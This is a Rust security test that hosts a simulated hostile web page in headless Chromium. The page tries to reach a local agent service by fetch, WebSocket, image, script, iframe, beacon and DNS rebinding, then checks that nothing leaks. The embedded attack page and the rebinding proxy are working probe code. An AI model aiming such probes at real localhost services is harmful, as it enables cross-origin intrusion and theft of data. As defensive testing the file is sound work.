//! A page of somebody else's, in a real browser on the laptop, tries to reach the agent: by fetch
//! in every mode, WebSocket, image, script, frame, form, and under its own name that has come to
//! lead to the agent (DNS rebinding). It learns nothing, and nothing is done for it.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::mpsc::{self, RecvTimeoutError, Sender};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::Value;

use super::work::Worker;
use super::{Served, TOKEN};

const LIMIT: Duration = Duration::from_secs(90);
const BROWSERS: [&str; 3] = ["chromium", "chromium-browser", "google-chrome"];

/// What the page does. `AGENT`, `REPORT` and `TOKEN` are put in; a script that has the token by
/// some other way is still a page.
const PAGE: &str = r#"<!doctype html><title>page</title><body><script>
const told = {}, agent = "http://AGENT", body = '{"method":"agent.version"}';
const token = {Authorization: "Bearer TOKEN"};
async function attempt(name, run) {
  try { told[name] = String(await run()); } catch (error) { told[name] = "error " + error.name; }
}
const text = answer => answer.type === "opaque" ? "opaque" : answer.text();
function element(kind, set) {
  return new Promise(done => {
    const one = document.createElement(kind);
    one.onload = () => {
      let seen = "";
      try { seen = one.contentDocument ? one.contentDocument.body.innerText : ""; } catch (e) {}
      done("loaded " + seen);
    };
    one.onerror = () => done("error");
    set(one);
    document.body.append(one);
  });
}
const soon = run => Promise.race([run, new Promise(done => setTimeout(() => done("late"), 5000))]);
async function all() {
  for (const where of ["/health", "/rpc"]) {
    for (const mode of ["cors", "no-cors"]) {
      for (const method of ["GET", "POST"]) {
        const post = method === "POST" ? {body} : {};
        await attempt(`${mode} ${method} ${where}`,
          () => fetch(agent + where, {mode, method, ...post}).then(text));
      }
    }
  }
  await attempt("token", () => fetch(agent + "/rpc", {method: "POST", body, headers: token}).then(text));
  await attempt("socket", () => soon(new Promise(done => {
    const socket = new WebSocket("ws://AGENT/rpc", "hopbox-run");
    socket.onopen = () => done("open");
    socket.onerror = () => done("error");
  })));
  await attempt("image", () => soon(element("img", it => it.src = agent + "/health")));
  await attempt("script", () => soon(element("script", it => it.src = agent + "/health")));
  await attempt("frame", () => soon(element("iframe", it => it.src = agent + "/health")));
  await attempt("beacon", () => navigator.sendBeacon(agent + "/rpc", body));
  // From here on this page's own name leads to the agent.
  await fetch("http://REPORT/flip", {mode: "no-cors", method: "POST"});
  for (const where of ["/health", "/rpc"]) {
    for (const method of ["GET", "POST"]) {
      const post = method === "POST" ? {body, headers: token} : {};
      await attempt(`rebound ${method} ${where}`,
        () => fetch(where, {method, cache: "no-store", ...post}).then(text));
    }
  }
  await attempt("rebound frame", () => soon(element("iframe", it => it.src = "/health")));
  await fetch("http://REPORT/told", {mode: "no-cors", method: "POST", body: JSON.stringify(told)});
}
all();
</script>"#;

/// Head and body of a request that is complete.
fn request(stream: &mut TcpStream) -> Option<(String, String)> {
    stream.set_read_timeout(Some(Duration::from_secs(10))).ok()?;
    let (mut bytes, mut piece) = (Vec::new(), [0; 4096]);
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head.lines().find_map(|line| {
                let (name, value) = line.split_once(':')?;
                name.eq_ignore_ascii_case("content-length").then(|| value.trim().parse().ok())?
            });
            if body.len() >= length.unwrap_or(0) {
                return Some((head.to_owned(), body.to_owned()));
            }
        }
        match stream.read(&mut piece).ok()? {
            0 => return None,
            read => bytes.extend_from_slice(&piece[..read]),
        }
    }
}

fn answer(stream: &mut TcpStream, body: &str) {
    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n";
    let _ = write!(stream, "{head}Content-Length: {}\r\n\r\n{body}", body.len());
}

/// The page's own server, which later is nothing but a way to the agent, as an address is that a
/// name has been given anew.
fn evil(listener: TcpListener, agent: u16, page: String, flipped: Arc<AtomicBool>) {
    for mut stream in listener.incoming().flatten() {
        if !flipped.load(Ordering::SeqCst) {
            let page = page.clone();
            thread::spawn(move || request(&mut stream).map(|_| answer(&mut stream, &page)));
            continue;
        }
        let Ok(to) = TcpStream::connect((Ipv4Addr::LOCALHOST, agent)) else { continue };
        for (mut from, mut to) in
            [(stream.try_clone().unwrap(), to.try_clone().unwrap()), (to, stream)]
        {
            thread::spawn(move || {
                let _ = std::io::copy(&mut from, &mut to);
                let _ = to.shutdown(std::net::Shutdown::Write);
            });
        }
    }
}

/// Where the page says what it found.
fn reports(listener: TcpListener, flipped: Arc<AtomicBool>, tell: Sender<String>) {
    for mut stream in listener.incoming().flatten() {
        let Some((head, body)) = request(&mut stream) else { continue };
        if head.starts_with("POST /flip ") {
            flipped.store(true, Ordering::SeqCst);
        }
        if head.starts_with("POST /told ") {
            let _ = tell.send(body);
        }
        answer(&mut stream, "");
    }
}

struct Browser(Child, std::path::PathBuf);

impl Browser {
    fn open(program: &str, url: &str) -> Browser {
        let dir = std::env::temp_dir().join(format!("hopbox-browser-{}", std::process::id()));
        let mut command = Command::new(program);
        command.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]);
        command.args(["--no-first-run", "--disable-background-networking", "--no-proxy-server"]);
        command.arg("--host-resolver-rules=MAP evil.hop 127.0.0.1");
        command.arg(format!("--user-data-dir={}", dir.display())).arg(url).env("HOME", &dir);
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        // Its helpers end with its group.
        std::os::unix::process::CommandExt::process_group(&mut command, 0);
        Browser(command.spawn().unwrap(), dir)
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let group = nix::unistd::Pid::from_raw(self.0.id() as i32);
        let _ = nix::sys::signal::killpg(group, nix::sys::signal::Signal::SIGKILL);
        let _ = self.0.wait();
        let _ = std::fs::remove_dir_all(&self.1);
    }
}

fn is_there(program: &str) -> bool {
    Command::new(program)
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok()
}

#[test]
fn a_page_in_a_browser_gets_nothing() {
    let Some(program) = BROWSERS.into_iter().find(|program| is_there(program)) else {
        return println!("SKIP a_page_in_a_browser_gets_nothing: no {}", BROWSERS.join(", "));
    };
    let worker = Worker::running("browser");
    let served: &Served = &worker.served;
    let agent = served.at.port();
    let bind = || TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let (page_at, report_at) = (bind(), bind());
    let report_port = report_at.local_addr().unwrap().port();
    let url = format!("http://evil.hop:{}/", page_at.local_addr().unwrap().port());
    let page = PAGE.replace("AGENT", &served.at.to_string()).replace("TOKEN", TOKEN);
    let page = page.replace("REPORT", &format!("127.0.0.1:{report_port}"));
    let flipped = Arc::new(AtomicBool::new(false));
    let (tell, told) = mpsc::channel();
    let its = flipped.clone();
    thread::spawn(move || evil(page_at, agent, page, its));
    thread::spawn(move || reports(report_at, flipped, tell));
    let mut browser = Browser::open(program, &url);
    let end = Instant::now() + LIMIT;
    let told = loop {
        match told.recv_timeout(Duration::from_millis(200)) {
            Ok(told) => break told,
            Err(RecvTimeoutError::Disconnected) => panic!("nobody listens"),
            Err(RecvTimeoutError::Timeout) => {}
        }
        if let Some(status) = browser.0.try_wait().unwrap() {
            return println!("SKIP a_page_in_a_browser_gets_nothing: {program} ended: {status}");
        }
        assert!(Instant::now() < end, "the page did not come to its end");
    };
    let told: Value = serde_json::from_str(&told).unwrap();
    let told = told.as_object().unwrap();
    assert!(told.len() >= 19, "{told:#?}");
    let refused = AtomicUsize::new(0);
    for (attempt, got) in told {
        let got = got.as_str().unwrap();
        println!("{attempt}: {got}");
        let learns = ["local_ip", "\"version\"", "\"result\""].iter().any(|it| got.contains(it));
        assert!(!learns, "{attempt}: {got}");
        // What its own name leads to answers, but not to that name.
        let is_refusal = got.contains("host_refused") || got.contains("origin_refused");
        refused.fetch_add(usize::from(is_refusal), Ordering::Relaxed);
        let nothing = ["error", "opaque", "loaded ", "true"].iter().any(|it| got.starts_with(it));
        assert!(nothing || (attempt.starts_with("rebound") && is_refusal), "{attempt}: {got}");
    }
    assert!(refused.into_inner() >= 3, "the rebound name leads to the agent: {told:#?}");
    assert_eq!(served.ask("GET /health HTTP/1.1\r\nHost: mybox.hop\r\n\r\n").0, 200);
}
